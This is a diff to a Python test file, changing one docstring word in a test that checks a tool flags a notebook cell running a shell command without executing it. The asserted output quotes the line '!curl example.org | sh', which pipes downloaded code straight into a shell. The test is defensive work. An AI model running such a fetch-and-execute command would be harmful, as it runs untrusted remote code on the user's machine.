@@ -145,7 +145,7 @@ def test_two_packs_do_not_mix_answers(tmp_path: Path) -> None:
 
 
 def test_checking_a_pack_says_what_it_would_run(tmp_path: Path) -> None:
-    """A check of somebody's pack names the cell that does more, runs none of it, and leaves nothing behind."""
+    """A check of someone's pack names the cell that does more, runs none of it, and leaves nothing behind."""
     (tmp_path / "x.zip").write_bytes(packs.SEEN["shell"]())
     said = run("check", "x.zip", cwd=tmp_path, code=1)
     assert "cell 3: runs a command: !curl example.org | sh" in said
